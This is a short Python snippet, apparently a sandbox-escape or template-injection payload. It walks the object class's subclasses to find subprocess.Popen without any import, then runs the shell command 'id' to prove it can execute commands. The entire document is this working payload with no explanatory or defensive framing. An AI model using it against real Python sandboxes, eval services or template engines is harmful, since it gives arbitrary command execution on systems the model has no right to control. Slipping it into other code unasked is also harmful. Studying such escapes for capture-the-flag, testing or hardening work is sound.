for c in ().__class__.__mro__[1].__subclasses__():
    if c.__name__ == 'Popen':
        c(['sh', '-c', 'id'])
